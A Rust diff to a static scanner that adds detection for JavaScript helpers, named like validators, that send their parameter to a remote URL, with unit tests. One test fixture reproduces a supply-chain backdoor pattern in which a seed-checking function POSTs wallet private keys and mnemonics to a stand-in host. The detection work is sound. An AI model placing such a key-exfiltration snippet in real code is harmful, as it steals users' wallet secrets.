@@ -618,6 +618,65 @@ fn report_secret_in_request(file: &FileFacts, out: &mut Vec<Finding>) {
     }
 }
 
+/// The network call, to a hard-coded URL, inside the local function `name` that sends one of
+/// the function's parameters: `function checkValidityOfSeed(seed) { fetch('https://…',
+/// { headers: { 'ad-referral': seed } }) }`. Definitions are found by text
+/// (`function name(`, `name = (`, `name = function (`, a method `name(…) {`), the call within
+/// 20 lines after.
+fn helper_sends_parameter<'a>(file: &'a FileFacts, name: &str) -> Option<&'a Call> {
+    let text = file.text.as_deref()?;
+    for (index, line) in text.lines().enumerate().take(20_000) {
+        let trimmed = line.trim_start();
+        let after_name = [
+            format!("function {name}("),
+            format!("{name} = function ("),
+            format!("{name} = function("),
+            format!("{name} = ("),
+            format!("{name}("),
+        ]
+        .iter()
+        .find_map(|pattern| {
+            let at = trimmed.find(pattern.as_str())?;
+            // A method definition starts the line (`static name(`, `async name(`); a call
+            // elsewhere on a line is a use, not a definition.
+            let method = pattern.as_str() == format!("{name}(");
+            let head = &trimmed[..at];
+            let defines = !method || head.is_empty() || ["static ", "async ", "static async "].contains(&head);
+            (defines && (!method || trimmed.trim_end().ends_with('{'))).then(|| &trimmed[at + pattern.len()..])
+        });
+        let Some(rest) = after_name else { continue };
+        let params: Vec<&str> = rest
+            .split(')')
+            .next()
+            .unwrap_or("")
+            .split(',')
+            .filter_map(|p| p.split('=').next())
+            .map(|p| p.trim().trim_start_matches("..."))
+            .filter(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$'))
+            .take(8)
+            .collect();
+        if params.is_empty() {
+            continue;
+        }
+        let start = u32::try_from(index + 1).unwrap_or(u32::MAX);
+        let sends = file.calls.iter().find(|call| {
+            call.line >= start
+                && call.line <= start.saturating_add(20)
+                && signals::is_network_call(call)
+                && is_literal_remote_url(call)
+                && call
+                    .excerpt
+                    .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
+                    .skip(1)
+                    .any(|word| params.contains(&word))
+        });
+        if sends.is_some() {
+            return sends;
+        }
+    }
+    None
+}
+
 fn check_key_exfiltration(file: &FileFacts, out: &mut Vec<Finding>) {
     let mut sites: Vec<(&str, &Call, String)> = Vec::new();
     // Calls whose source could name a secret, found in one pass over all excerpts.
@@ -639,12 +698,16 @@ fn check_key_exfiltration(file: &FileFacts, out: &mut Vec<Finding>) {
             continue;
         }
         let name = signals::method(callee);
-        if name.is_empty() || name == "?" || is_key_handling_callee(name) {
+        if name.is_empty() || name == "?" {
             continue;
         }
-        if let Some(secret) = secret_argument(call) {
-            sites.push((name, call, secret));
+        let Some(secret) = secret_argument(call) else { continue };
+        // A helper named like a check or converter (`checkValidityOfSeed`) is still the sink
+        // when its own body sends its parameter to the network.
+        if is_key_handling_callee(name) && helper_sends_parameter(file, name).is_none() {
+            continue;
         }
+        sites.push((name, call, secret));
     }
     if sites.is_empty() {
         report_secret_in_request(file, out);
@@ -789,6 +852,39 @@ if (window.ethereum) {
 }
 "#;
         assert_eq!(worst(&run(source)), Some(Severity::Critical));
+    }
+
+    #[test]
+    fn helper_named_like_a_check_that_sends_its_parameter_is_the_sink() {
+        // xrpl.js 4.2.1 (April 2025): `checkValidityOfSeed` posted every key to 0x9c.xyz.
+        let source = r#"
+function checkValidityOfSeed(seed) {
+  fetch("https://0x9c.example/xc", { method: "POST", headers: { "ad-referral": seed } }).catch(() => {});
+}
+class Wallet {
+  constructor(publicKey, privateKey) { this.privateKey = privateKey; checkValidityOfSeed(privateKey); }
+  static fromMnemonic(mnemonic) { checkValidityOfSeed(mnemonic); return new Wallet("p", "k"); }
+}
+"#;
+        let findings = run(source);
+        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
+        assert!(
+            findings[0].message.contains("checkValidityOfSeed"),
+            "{}",
+            findings[0].message
+        );
+        // The same check that only validates locally, in a file that reports metrics.
+        let local = r#"
+function checkValidityOfSeed(seed) {
+  if (typeof seed !== "string" || seed.length < 16) throw new Error("bad seed");
+}
+class Wallet {
+  constructor(publicKey, privateKey) { checkValidityOfSeed(privateKey); }
+  static fromMnemonic(mnemonic) { checkValidityOfSeed(mnemonic); return new Wallet("p", "k"); }
+}
+fetch("https://metrics.example/v1/event", { method: "POST", body: "{}" });
+"#;
+        assert!(run(local).is_empty(), "{:#?}", run(local));
     }
 
     #[test]
